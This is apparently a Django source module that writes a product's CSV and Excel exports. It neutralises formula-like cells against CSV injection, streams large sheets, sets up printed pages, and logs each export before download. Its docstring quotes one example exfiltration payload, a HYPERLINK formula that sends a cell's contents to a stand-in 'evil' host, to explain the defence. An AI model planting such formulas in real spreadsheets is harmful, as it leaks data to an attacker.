"""Every spreadsheet and CSV the product writes (D-2): one writer, no cell is ever read as a formula, and every
sheet is ready to read and to print.

A value that starts with = + - @, a tab or a carriage return is what a spreadsheet takes for a formula or a
command (CSV injection: `=HYPERLINK("http://evil/?"&A1)` in a complaint's subject would run when a supervisor
opens the export). Here such a value is always written as text: in .xlsx as a string cell, in CSV with a leading
apostrophe (OWASP's advice; spreadsheets show the text and never evaluate it).

Every .xlsx sheet gets the same page (`sheet_setup`): columns wide enough for their text, the header rows frozen and
repeated on each printed page, A4 landscape fitted to the page width, a CJK font (FONT_NAME) for every cell, and in
the printed footer who exported it and when, with the page number.

Every list exports through `export_response` (D-2): the filtered rows as a CSV streamed to the browser or an .xlsx
written row by row to a temporary file, so memory stays flat for 100,000 rows and more; at most
settings.EXPORT_MAX_ROWS rows (above: a message on the list, nothing exported). Before a byte is sent the export is
recorded (P-1, P-5): who, when, which list, the format, the filters, the row count (one COUNT of the filtered rows,
taken before streaming), whether personal data was in full, the client's address. The ground imports no app: the
compliance app installs the recorder with `set_export_recorder` from its ready(), and each app names its lists
with `register_list` (the words the export log shows).
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import tempfile
import unicodedata
import zipfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from datetime import datetime
from typing import Any, Protocol

from django.conf import settings
from django.contrib import messages
from django.http import FileResponse, HttpResponse, HttpResponseRedirect, StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.utils import timezone
from django.utils.functional import Promise
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.utils.indexed_list import IndexedList
from openpyxl.worksheet.worksheet import Worksheet

from csc.http import client_ip

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# SimSun, the font Chinese offices print forms in; spreadsheets without it substitute their own CJK font. No theme
# scheme, so that Excel does not swap in the theme's Latin font; charset 134 is GB2312.
FONT_NAME = "宋体"
FONT_SIZE = 11
WIDTH_SAMPLE = 200  # rows looked at to size the columns of a streamed sheet
MIN_WIDTH, MAX_WIDTH = 6, 50


def font(*, bold: bool = False, size: int = FONT_SIZE) -> Font:
    """The export font; use it for every styled cell (a bare Font() would fall back to Calibri)."""
    return Font(name=FONT_NAME, size=size, bold=bold, family=3, charset=134)


def new_workbook(*, write_only: bool = False) -> Workbook:
    """A workbook whose cells, styled or not, default to the CJK font."""
    book = Workbook(write_only=write_only)
    # openpyxl has no public setter for the default font: font 0 is what every unstyled cell and the Normal style use.
    book._fonts = IndexedList([font()])
    return book


def text_width(value: Any) -> int:
    """Width in Excel's units (one digit): a CJK character takes two."""
    text = "" if value is None else str(value)
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text)


def column_widths(rows: Iterable[Sequence[Any]]) -> list[float]:
    """Each column as wide as its widest value, plus a margin, within MIN_WIDTH..MAX_WIDTH."""
    widest: list[int] = []
    for row in rows:
        for index, value in enumerate(row):
            longest = max((text_width(line) for line in str(value).splitlines()), default=0) if value else 0
            if index == len(widest):
                widest.append(0)
            widest[index] = max(widest[index], longest)
    return [min(max(width + 2, MIN_WIDTH), MAX_WIDTH) for width in widest]


def _footer_text(text: str) -> str:
    return text.replace("&", "&&")  # & starts a code in a header or footer


def sheet_setup(
    sheet,
    *,
    widths: Sequence[float],
    header_rows: int,
    exported_by: str,
    exported_at: datetime | None = None,
    repeat_rows: int | None = None,
) -> None:
    """The page every export gets. On a write-only sheet call it before the first row: widths and panes come first.

    header_rows: the rows above the data (1 for a list; the title and headings of a report), frozen on screen;
    repeat_rows (header_rows unless said): the rows printed again at the top of every page.
    """
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    if header_rows:
        sheet.freeze_panes = f"A{header_rows + 1}"
    repeat_rows = header_rows if repeat_rows is None else repeat_rows
    if repeat_rows:
        sheet.print_title_rows = f"1:{repeat_rows}"
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = Worksheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0  # as many pages down as the rows need
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    moment = timezone.localtime(exported_at or timezone.now())
    stamp = _("Exported by %(user)s, %(time)s") % {"user": exported_by, "time": f"{moment:%Y-%m-%d %H:%M}"}
    for part, text in ((sheet.oddFooter.left, _footer_text(stamp)), (sheet.oddFooter.right, "&P / &N")):
        part.text = text
        part.font = f"{FONT_NAME},Regular"
        part.size = 9


def labels(model, field: str) -> Callable[[Any], str]:
    """A field's choice labels, translated once for a whole export: `get_FOO_display()` hashes and translates every
    choice again on every row (two thirds of a 100,000-row export's time). Call it inside the request, where the
    user's language is active."""
    mapping = {value: str(label) for value, label in model._meta.get_field(field).flatchoices}
    return lambda value: mapping.get(value, "" if value is None else str(value))


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value as CSV may carry it: text that would be read as a formula gets a leading apostrophe."""
    return "'" + value if looks_like_formula(value) else value


def append(sheet, values: Iterable[Any], *, bold: bool = False) -> None:
    """Append one row to a worksheet (write-only or not), every formula-like string kept as text; `bold` for
    headings."""
    values = list(values)
    if isinstance(sheet, Worksheet):
        sheet.append(values)
        for cell in sheet[sheet.max_row]:
            if cell.data_type == "f":  # openpyxl reads a leading = as a formula
                cell.data_type = "s"
            if bold and cell.value is not None:
                cell.font = font(bold=True)
        return
    row = []
    for value in values:
        if looks_like_formula(value) or bold:
            cell = WriteOnlyCell(sheet, value=value)
            if looks_like_formula(value):
                cell.data_type = "s"
            if bold:
                cell.font = font(bold=True)
            row.append(cell)
        else:
            row.append(value)
    sheet.append(row)


def workbook_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def attachment(content: bytes | str, *, filename: str, content_type: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_table(
    *, title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]], exported_by: str, exported_at=None
) -> bytes:
    """One sheet of a header row and the rows, as bytes (for a sheet that goes into an e-mail or a test; a list's
    download streams from the file: `export_response`)."""
    with xlsx_file(title=title, header=header, rows=rows, exported_by=exported_by, exported_at=exported_at) as handle:
        return handle.read()


def csv_response(*, filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """A small CSV in one piece, UTF-8 with a BOM so that Excel opens the Chinese text correctly (a list's download
    streams: `export_response`)."""
    return attachment("".join(csv_stream(header, rows)), filename=filename, content_type=CSV_TYPE)


# --- every list's export (D-2, P-1) -------------------------------------------------------------------------

FORMATS = ("xlsx", "csv")
CHUNK_SIZE = 2000  # rows read from the database at a time (queryset.iterator)
CSV_BATCH = 500  # rows written to the response at a time

LISTS: dict[str, str | Promise] = {}  # list code → its name, as the export log shows it


def register_list(code: str, title: str | Promise) -> None:
    """Name a list that exports (from the owning app's ready()); the export log files and shows exports by it."""
    LISTS[code] = title


def list_title(code: str) -> str:
    return str(LISTS.get(code, code))


class ExportRecorder(Protocol):
    def __call__(
        self,
        *,
        user,
        list_code: str,
        fmt: str,
        filters: str,
        row_count: int,
        personal_data_in_full: bool,
        ip_address: str | None,
        purpose: str = "",
    ) -> Any: ...


_recorder: ExportRecorder | None = None


def set_export_recorder(recorder: ExportRecorder | None) -> None:
    """Install the one place exports are recorded (the compliance app's ExportRecord, from its ready())."""
    global _recorder
    _recorder = recorder


def requested_format(request) -> str | None:
    """`?export=xlsx` or `?export=csv` on a list page; anything else is no export."""
    value = request.GET.get("export")
    return value if value in FORMATS else None


def export_filters(request) -> str:
    """The list's filters as the query string the list was read with (no page, no export)."""
    params = request.GET.copy()
    for name in ("page", "export"):
        params.pop(name, None)
    return params.urlencode()


class _Echo:
    """A file-like whose write returns the text: csv.writer formats one row, the generator yields it."""

    def write(self, value: str) -> str:
        return value


def csv_stream(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The BOM, the header and the rows as CSV text, a batch of rows at a time (formula-like cells as text)."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([csv_cell(str(label)) for label in header])
    rows = iter(rows)
    while batch := list(itertools.islice(rows, CSV_BATCH)):
        yield "".join(writer.writerow([csv_cell(value) for value in row]) for row in batch)


# --- the long lists' .xlsx: SpreadsheetML written as it streams ------------------------------------------------
#
# openpyxl's write-only workbook and XlsxWriter's constant-memory mode both spend 15–20 µs of Python per cell: a
# 100,000-row list of 13 columns took 31–36 s (bench/dashboard.py). A list sheet needs none of their generality —
# text and numbers in one font, a bold header, the page set up — so it is written here as the XML itself, a row at
# a time, into a zip entry of a temporary file: about 2 µs a cell, memory flat. Every text is an inline string, so
# nothing is ever read as a formula. tests/foundation/test_exports.py reads the files back with openpyxl.

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
    'Target="styles.xml"/></Relationships>'
)
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_XML_ESCAPES = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;"})
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0d\x0e-\x1f\ufffe\uffff]|_(?=x[0-9A-Fa-f]{4}_)")


def _xml_text(value: str) -> str:
    """Text as an XML element holds it: markup escaped, control characters (and a literal _xHHHH_) as OOXML's
    _xHHHH_ escapes, which spreadsheets show as the character."""
    text = value.translate(_XML_ESCAPES)
    if _NOT_XML.search(text):
        text = _NOT_XML.sub(lambda m: f"_x{ord(m.group()):04X}_", text)
    return text


def _styles() -> str:
    font = f'<name val="{FONT_NAME}"/><family val="3"/><charset val="134"/>'
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"<styleSheet {_NS}>"
        f'<fonts count="2"><font><sz val="{FONT_SIZE}"/>{font}</font><font><b/><sz val="{FONT_SIZE}"/>{font}</font>'
        "</fonts>"
        '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/>'
        "</fill></fills>"
        '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
        '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
        '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
        '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/></cellXfs>'
        '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
        "</styleSheet>"
    )


def _row_xml(number: int, values: Sequence[Any], letters: list[str], style: str = "") -> str:
    cells = []
    for index, value in enumerate(values):
        if value is None or value == "":
            continue
        if index >= len(letters):
            letters.append(get_column_letter(index + 1))
        ref = f"{letters[index]}{number}"
        if isinstance(value, bool):
            cells.append(f'<c r="{ref}"{style} t="b"><v>{int(value)}</v></c>')
        elif isinstance(value, (int, float)):
            cells.append(f'<c r="{ref}"{style}><v>{value}</v></c>')
        else:
            cells.append(
                f'<c r="{ref}"{style} t="inlineStr"><is><t xml:space="preserve">{_xml_text(str(value))}</t></is></c>'
            )
    return f'<row r="{number}">{"".join(cells)}</row>'


def xlsx_file(
    *, title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]], exported_by: str, exported_at=None
) -> Any:
    """An .xlsx of one sheet in a temporary file (deleted when closed), each row written as it comes. The page is
    `sheet_setup`'s: columns sized on the header and the first WIDTH_SAMPLE rows, the header frozen and repeated on
    every printed page, A4 landscape fitted to the width, every cell in FONT_NAME (the header bold), who exported
    it and when in the footer."""
    header = [str(label) for label in header]
    rows = iter(rows)
    first = list(itertools.islice(rows, WIDTH_SAMPLE))
    widths = column_widths([header, *first])
    moment = timezone.localtime(exported_at or timezone.now())
    stamp = _("Exported by %(user)s, %(time)s") % {"user": exported_by, "time": f"{moment:%Y-%m-%d %H:%M}"}
    font_code = f'&amp;"{FONT_NAME},Regular"&amp;9'
    footer = f"&amp;L{font_code}{_xml_text(_footer_text(stamp))}&amp;R{font_code}&amp;P / &amp;N"
    name = _xml_text(str(title)[:31].translate(str.maketrans("[]:*?/\\", "（）：＊？／／")))
    quoted = "'" + name.replace("'", "''") + "'"
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<workbook {_NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f'<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets>'
        f'<definedNames><definedName name="_xlnm.Print_Titles" localSheetId="0">{quoted}!$1:$1'
        "</definedName></definedNames></workbook>"
    )
    letters = [get_column_letter(index + 1) for index in range(len(header))]
    columns = "".join(
        f'<col min="{index}" max="{index}" width="{width}" customWidth="1"/>' for index, width in enumerate(widths, 1)
    )
    handle = tempfile.TemporaryFile(suffix=".xlsx")  # FileResponse closes it when sent, and closing deletes it
    with zipfile.ZipFile(handle, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        package.writestr("[Content_Types].xml", _CONTENT_TYPES)
        package.writestr("_rels/.rels", _ROOT_RELS)
        package.writestr("xl/workbook.xml", workbook)
        package.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        package.writestr("xl/styles.xml", _styles())
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as raw:
            sheet = io.TextIOWrapper(raw, encoding="utf-8", write_through=False)
            sheet.write(
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                f'<worksheet {_NS}><sheetPr><pageSetUpPr fitToPage="1"/></sheetPr>'
                '<sheetViews><sheetView workbookViewId="0"><pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" '
                'state="frozen"/><selection pane="bottomLeft" activeCell="A2" sqref="A2"/></sheetView></sheetViews>'
                f"<cols>{columns}</cols><sheetData>"
            )
            sheet.write(_row_xml(1, header, letters, ' s="1"'))
            batch = []
            for number, row in enumerate(itertools.chain(first, rows), start=2):
                batch.append(_row_xml(number, row, letters))
                if len(batch) == CSV_BATCH:
                    sheet.write("".join(batch))
                    batch = []
            sheet.write("".join(batch))
            sheet.write(
                "</sheetData>"
                '<pageMargins left="0.5" right="0.5" top="0.75" bottom="0.75" header="0.3" footer="0.3"/>'
                '<pageSetup paperSize="9" orientation="landscape" fitToWidth="1" fitToHeight="0"/>'
                f"<headerFooter><oddFooter>{footer}</oddFooter></headerFooter></worksheet>"
            )
            sheet.flush()
            sheet.detach()
    handle.seek(0)
    return handle


def export_response(
    request,
    *,
    list_code: str,
    title: str | Promise,
    header: Sequence[Any],
    queryset,
    row: Callable[[Any], Sequence[Any]],
    fmt: str,
    personal_data_in_full: bool = False,
    purpose: str = "",
    filters: str | None = None,
    back: str | None = None,
) -> HttpResponseBase:
    """The filtered rows of a list as a download, recorded first (P-1); over the limit a message on the list instead.

    `queryset` is the filtered list in its order; `row(obj)` gives one row's cells (masked unless
    `personal_data_in_full`, which the caller decides with the one rule, compliance's `may_unmask`). The rows are read
    with `queryset.iterator(chunk_size=CHUNK_SIZE)`: never a list in memory. `filters` is what the record says the
    list was filtered by (default: the query string); `back` where the over-the-limit message is shown (default: the
    list with the same filters).
    """
    if list_code not in LISTS:
        raise ValueError(f"List {list_code!r} is not registered (csc.exports.register_list).")
    if fmt not in FORMATS:
        raise ValueError(f"Unknown export format {fmt!r}.")
    if _recorder is None:
        raise RuntimeError("No export recorder is installed (the compliance app installs it from its ready()).")
    limit = settings.EXPORT_MAX_ROWS
    count = queryset.count()
    if count > limit:
        messages.error(
            request,
            _(
                "%(count)s rows match: an export holds at most %(limit)s. Narrow the filters (a shorter date range, "
                "one station) and export again."
            )
            % {"count": f"{count:,}", "limit": f"{limit:,}"},
        )
        return HttpResponseRedirect(back or f"{request.path}?{export_filters(request)}".rstrip("?"))
    _recorder(
        user=request.user,
        list_code=list_code,
        fmt=fmt,
        filters=export_filters(request) if filters is None else filters,
        row_count=count,
        personal_data_in_full=personal_data_in_full,
        ip_address=client_ip(request),
        purpose=purpose,
    )
    moment = timezone.localtime()
    filename = f"{list_code.replace('_', '-')}-{moment:%Y%m%d-%H%M}.{fmt}"
    rows = (row(obj) for obj in queryset[:limit].iterator(chunk_size=CHUNK_SIZE))
    if fmt == "csv":
        response = StreamingHttpResponse(csv_stream(header, rows), content_type=CSV_TYPE)
        response["Content-Disposition"] = f'attachment; filename="{filename}"'
        return response
    handle = xlsx_file(title=str(title), header=header, rows=rows, exported_by=str(request.user), exported_at=moment)
    return FileResponse(handle, as_attachment=True, filename=filename, content_type=XLSX_TYPE)
